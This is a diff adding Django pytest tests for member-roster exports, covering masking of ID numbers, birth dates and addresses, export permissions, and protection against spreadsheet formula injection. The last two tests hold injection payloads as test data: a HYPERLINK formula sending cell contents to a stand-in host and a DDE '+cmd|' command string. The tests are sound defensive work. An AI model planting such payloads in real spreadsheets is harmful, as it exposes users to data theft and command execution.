@@ -10,10 +10,12 @@ import pytest
 from django.core.management import call_command
 from django.core.management.base import CommandError
 from django.urls import reverse
+from openpyxl import load_workbook
 from python_calamine import CalamineWorkbook
 
 from lixing.accounts.models import AccessLog
 from lixing.imports.services import import_run
+from lixing.orgs.models import Member
 from lixing.orgs.roster import COLUMNS
 from lixing.orgs.validators import mask_id_number, mask_phone
 
@@ -82,3 +84,57 @@ def test_the_export_command_as_a_user_is_scoped_and_masked(district: Any, tmp_pa
     with pytest.raises(CommandError):
         call_command("export_members", "--org", str(district.branch_a1.pk), "--out", str(out),
                      "--user", "other_member")  # fmt: skip
+
+
+def test_a_masked_export_has_no_birth_date_beside_the_masked_id_and_no_full_address(district: Any) -> None:
+    m = district.a1_members[2]
+    Member.objects.filter(pk=m.pk).update(address="浙江省宁波市北仑区大榭街道海光路8号")
+    r = district.client(district.secretary).get(reverse("orgs:export", args=[district.branch_a1.pk]))
+    rows = cells(r.content)
+    headers = rows[0]
+    row = next(row for row in rows if row[0] == m.name)
+    assert row[headers.index("公民身份号码")] == mask_id_number(m.id_number)
+    assert row[headers.index("出生日期")] in ("", None)
+    assert all(str(cell) not in (m.birth_date.isoformat(), f"{m.birth_date:%Y%m%d}") for cell in row)
+    assert row[headers.index("家庭住址")] == "浙江省宁波市****"
+    assert "海光路" not in str(rows) and not AccessLog.objects.exists()
+
+
+def test_the_member_page_masks_the_birth_date_and_address_until_revealed(district: Any) -> None:
+    m = district.a1_members[2]
+    Member.objects.filter(pk=m.pk).update(address="浙江省宁波市北仑区大榭街道海光路8号")
+    page = district.client(district.secretary).get(reverse("orgs:member", args=[m.pk])).content.decode()
+    assert mask_id_number(m.id_number) in page
+    assert m.birth_date.isoformat() not in page and "海光路" not in page and "浙江省宁波市****" in page
+    revealed = district.client(district.unit_admin).post(reverse("orgs:member_reveal", args=[m.pk])).content.decode()
+    assert m.birth_date.isoformat() in revealed and "海光路8号" in revealed
+
+
+def test_an_ordinary_member_may_not_export_the_roster_of_their_own_branch(district: Any) -> None:
+    r = district.client(district.member).get(reverse("orgs:export", args=[district.branch_a1.pk]))
+    assert r.status_code == 403
+    with pytest.raises(CommandError):
+        call_command("export_members", "--org", str(district.branch_a1.pk), "--out", "/dev/null", "--user", "member")
+
+
+def test_a_position_that_looks_like_a_formula_is_exported_as_text(district: Any) -> None:
+    m = district.a1_members[2]
+    Member.objects.filter(pk=m.pk).update(position="=1+1", job_post='=HYPERLINK("http://x.example/"&A1,"点击")',
+                                          work_unit="@SUM(A1)")  # fmt: skip
+    body = district.client(district.secretary).get(reverse("orgs:export", args=[district.branch_a1.pk])).content
+    ws = load_workbook(io.BytesIO(body)).active
+    assert ws is not None
+    found = {c.value: c.data_type for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
+    assert found["=1+1"] == "s" and found["@SUM(A1)"] == "s"
+    assert found['=HYPERLINK("http://x.example/"&A1,"点击")'] == "s"
+    assert not any(t == "f" for t in found.values()), "no cell is a formula"
+
+
+def test_the_import_template_writes_no_formula_either(district: Any) -> None:
+    from lixing.imports.sheets import Column, template_bytes
+
+    body = template_bytes("t", [Column("=A1", "a", hint="-1")], [["+cmd|' /C calc'!A0"], ["\t=1+1"]])
+    ws = load_workbook(io.BytesIO(body)).active
+    assert ws is not None
+    assert [(c.value, c.data_type) for row in ws.iter_rows() for c in row] == [
+        ("=A1", "s"), ("-1", "s"), ("+cmd|' /C calc'!A0", "s"), ("\t=1+1", "s")]  # fmt: skip
